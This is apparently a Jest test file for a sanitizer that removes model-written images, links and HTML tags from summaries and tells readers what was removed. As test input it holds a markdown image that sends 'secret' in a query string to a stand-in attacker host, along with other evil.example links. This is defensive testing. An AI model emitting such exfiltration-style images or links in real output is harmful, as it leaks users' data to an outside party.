import { describe, expect, it } from '@jest/globals';
import { removedFrom, removedNotice } from './removed.js';

const CITED = new Set(['https://pages.example/1']);

describe('what is removed from a text', () => {
  it.each([
    ['It is so ![x](https://evil.example/p.png?q=secret).', { images: 1, links: 0, tags: 0 }],
    ['It <img src="https://evil.example/p.png"> is so.', { images: 1, links: 0, tags: 0 }],
    ['See [this](https://evil.example/x) or www.evil.example.', { images: 0, links: 2, tags: 0 }],
    ['It <b>is</b> so, evil.example/login says.', { images: 0, links: 1, tags: 2 }],
  ])('is counted: %s', (text, removed) => {
    expect(removedFrom(text, CITED)).toEqual(removed);
  });

  it.each(['It is so [1].', 'See [1](https://pages.example/1).', 'See https://pages.example/1.', 'a < b'])(
    'is nothing in %s',
    (text) => {
      expect(removedFrom(text, CITED)).toBeNull();
    },
  );

  it('is told in words', () => {
    expect(removedNotice({ images: 1, links: 0, tags: 0 })).toBe(
      'For safety, one image that the model wrote was removed from this summary.',
    );
    expect(removedNotice({ images: 1, links: 2, tags: 3 })).toBe(
      'For safety, one image, 2 links and 3 tags that the model wrote were removed from this summary.',
    );
  });
});
